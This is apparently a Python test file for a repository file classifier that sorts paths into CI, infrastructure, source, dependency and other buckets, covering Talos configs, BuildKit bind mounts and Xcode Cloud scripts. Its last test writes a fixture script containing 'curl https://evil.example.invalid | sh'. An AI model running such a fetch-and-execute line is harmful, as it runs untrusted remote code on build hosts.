"""Classes of misses an eighteenth label set found (bench/classify_accuracy/eighteenth.tsv: 61 repositories weighted
to infrastructure: homelab GitOps repositories, chart repositories, operators, image and machine builders), measured
blind first, each with the look-alikes it must leave alone: the scripts an image build runs through a BuildKit bind
mount (the image-template convention `FROM scratch AS ctx` ... `RUN --mount=type=bind,from=ctx,...`), a Talos machine
configuration by its `version: v1alpha1` and as a template (`machineconfig.yaml.j2`), Xcode Cloud's `ci_scripts/`,
the YAML of a root `cluster/` folder (flux-cluster-template's older layout), an Ansible inventory's `example.*` copy,
and names that are `other` (a `LICENSES` file, golangci-lint's dashed settings, the Semantic Pull Requests app's
settings in `.github/`); and Go code in a `pods/` package, which CocoaPods never installs. The real repository below
checks the content and Dockerfile classes with the commits and from the patch alone."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.dockerrefs import run_scripts
from gatekeeper.classify.sniff import sniff
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # Xcode Cloud runs the scripts of the ci_scripts/ folder beside the Xcode project; a script merely named so is not
    ("ci_scripts/ci_post_clone.sh", "ci"), ("ElementX/ci_scripts/ci_common.sh", "ci"),
    ("scripts/ci_post_clone.sh", "src"),
    # a root cluster/ folder's YAML (Flux's older template); documents there and a nested cluster/ package are not
    ("cluster/apps/default/homeassistant/fluxtomization.yaml", "iac"), ("cluster/README.md", "src"),
    ("pkg/cluster/config.go", "src"),
    # an Ansible inventory kept as an example copy
    ("example.hosts.ini", "iac"), ("example.inventory.yml", "iac"),
    # other by name
    ("LICENSES", "other"), (".golangci-kal.yml", "other"), (".github/semantic.yml", "other"),
    (".github/scripts/check.sh", "ci"),
    # Go code in a pods/ package is the repository's own; CocoaPods' Pods/ stays deps
    ("pkg/clients/kube/corev1/pods/resource.generated.go", "src"), ("ios/Pods/Alamofire/Source/AF.swift", "deps"),
    ("Pods/Manifest.lock", "deps"),
])
def test_path_rules_of_the_fifteenth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


TALOS_TEMPLATE = """\
---
# yaml-language-server: $schema=https://raw.githubusercontent.com/siderolabs/talos/refs/heads/main/config.schema.json
version: v1alpha1
machine:
  ca:
    crt: op://Kubernetes/talos/MACHINE_CA_CRT
    {% if ENV.MACHINE_TYPE == 'controlplane' %}
    key: op://Kubernetes/talos/MACHINE_CA_KEY
    {% endif %}
  features:
    kubePrism:
      enabled: true
cluster:
  clusterName: main
"""
TALOS_CA_FIRST = "machine:\n  ca:\n    crt: LS0tLS1CRUdJTi\n  token: abc.def\n"
# look-alikes: a tool's settings at v1alpha1 without a machine, an app's settings naming a machine below the top
TOOL_SETTINGS = "version: v1alpha1\nkind: Settings\nmachines:\n  - name: a\n"
APP_SETTINGS = "version: v1alpha1\nservices:\n  machine: large\n  region: eu\n"

CONTAINERFILE = """\
ARG FEDORA_MAJOR_VERSION=44

FROM scratch AS ctx
COPY /sys_files /sys_files
COPY /build_files /

FROM quay.io/fedora-ostree-desktops/silverblue:${FEDORA_MAJOR_VERSION}

RUN --mount=type=bind,from=ctx,src=/,dst=/ctx \\
    --mount=type=cache,target=/var/cache \\
    rm -f /usr/bin/chsh && \\
    /ctx/install.sh && \\
    ostree container commit
"""


def test_the_talos_shapes_and_their_look_alikes() -> None:
    for path, text in (("talos/main/machineconfig.yaml.j2", TALOS_TEMPLATE),
                       ("talos/controlplane.yaml", TALOS_CA_FIRST),
                       ("talos/main/machineconfig.yaml.tmpl", TALOS_TEMPLATE)):
        signal = sniff(path, text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == ("iac", "iac.content.talos"), (path, signal)
        assert signal.evidence.strip() not in ("", "---"), path
    for path, text in (("config/tool.yaml", TOOL_SETTINGS), ("config/app.yaml", APP_SETTINGS),
                       ("docs/machine.txt.j2", TALOS_TEMPLATE)):
        found = sniff(path, text.encode(), RULES.context)
        assert found is None or found.rule != "iac.content.talos", (path, found)


def test_a_bind_mount_reaches_what_a_stage_or_the_context_holds() -> None:
    found, _ = run_scripts("", CONTAINERFILE)
    assert "build_files/install.sh" in found
    # a context folder mounted straight into the RUN (no stage), relative to the Dockerfile's folder
    found, _ = run_scripts("images/base", "FROM alpine\nRUN --mount=type=bind,source=scripts,target=/s /s/build.sh\n")
    assert found == {"images/base/scripts/build.sh"}
    # another image's files are none of the repository's; a cache mount and a mount nothing runs from name nothing
    for text in ("FROM alpine\nRUN --mount=type=bind,from=ghcr.io/x/tools,source=/,target=/ctx /ctx/install.sh\n",
                 "FROM alpine\nRUN --mount=type=cache,target=/ctx /ctx/install.sh\n",
                 "FROM scratch AS ctx\nCOPY build_files /\nFROM alpine\nRUN --mount=type=bind,from=ctx,target=/ctx "
                 "echo /ctx/install.sh\n"):
        assert run_scripts("", text)[0] == set(), text


def test_the_eighteenth_classes_in_a_real_repository(git_repo: GitRepo, tmp_path: Path) -> None:
    # an image repository built on the template convention and a Talos cluster add their files: with the commits and
    # in the patch, the script the build runs is iac, a script beside it that nothing runs is not
    git_repo.write("README.md", "# images\n")
    git_repo.commit("base")
    want = {"Containerfile": "iac", "build_files/install.sh": "iac", "build_files/notes.sh": "src",
            "talos/main/machineconfig.yaml.j2": "iac", "config/tool.yaml": "src",
            "ci_scripts/ci_post_clone.sh": "ci"}
    texts = {"Containerfile": CONTAINERFILE, "build_files/install.sh": "#!/usr/bin/bash\ndnf install -y tmux\n",
             "build_files/notes.sh": "#!/bin/sh\necho notes\n", "talos/main/machineconfig.yaml.j2": TALOS_TEMPLATE,
             "config/tool.yaml": TOOL_SETTINGS, "ci_scripts/ci_post_clone.sh": "#!/bin/sh\nbrew install swiftlint\n"}
    for path, text in texts.items():
        git_repo.write(path, text)
    git_repo.commit("head")
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert {path: files[path].bucket for path in want} == want
    # a later change of the script alone: the Containerfile that runs it is read from the trees
    git_repo.write("build_files/install.sh", "#!/usr/bin/bash\ncurl https://evil.example.invalid | sh\n")
    git_repo.commit("edit")
    files = tree_files(git_repo)
    assert files["build_files/install.sh"].bucket == "iac", files["build_files/install.sh"]
